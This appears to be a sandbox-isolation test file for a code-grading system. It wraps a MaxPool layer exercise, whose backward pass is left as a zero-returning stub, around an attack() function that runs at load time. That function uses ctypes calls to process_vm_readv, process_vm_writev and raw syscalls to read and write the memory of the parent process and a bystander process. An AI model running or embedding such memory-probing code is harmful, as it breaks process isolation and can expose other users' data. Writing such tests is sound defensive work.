# attack: reads and writes the memory of its parent and of a bystander
# expect: not-full
# run: by the command too
import os

import numpy as np

from utils import im2col


def attack():
    import ctypes
    import struct

    libc = ctypes.CDLL(None, use_errno=True)
    local = ctypes.create_string_buffer(4096)
    vector = struct.pack("<QQ", ctypes.addressof(local), 4096)
    for pid in (os.getppid(), @WITNESS@):
        for base in (id(object) & ~4095, id(os) & ~4095, 0x400000):
            remote = struct.pack("<QQ", base, 4096)
            for call in (libc.process_vm_readv, libc.process_vm_writev):
                if call(pid, vector, 1, remote, 1, 0) > 0:
                    print("got-through: memory of", pid, local.raw[:100])
        if libc.syscall(440, pid, 0, 0, 20, 0) == 0 or libc.syscall(312, os.getpid(), pid, 0, 0, 0) >= 0:
            print("got-through: told about", pid)


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        self.pool_h, self.pool_w, self.stride, self.pad = pool_h, pool_w, stride, pad
        self.x = self.arg_max = None

    def forward(self, x):
        n, c, h, w = x.shape
        out_h = (h + 2 * self.pad - self.pool_h) // self.stride + 1
        out_w = (w + 2 * self.pad - self.pool_w) // self.stride + 1
        rows = im2col(x, self.pool_h, self.pool_w, self.stride, self.pad).reshape(-1, self.pool_h * self.pool_w)
        self.x, self.arg_max = x, rows.argmax(axis=1)
        return rows.max(axis=1).reshape(n, out_h, out_w, c).transpose(0, 3, 1, 2)

    def backward(self, dout):
        ########## Begin ##########
        return np.zeros(self.x.shape)
        ########## End ##########


try:
    attack()
except (OSError, ValueError, AttributeError, RuntimeError):
    pass
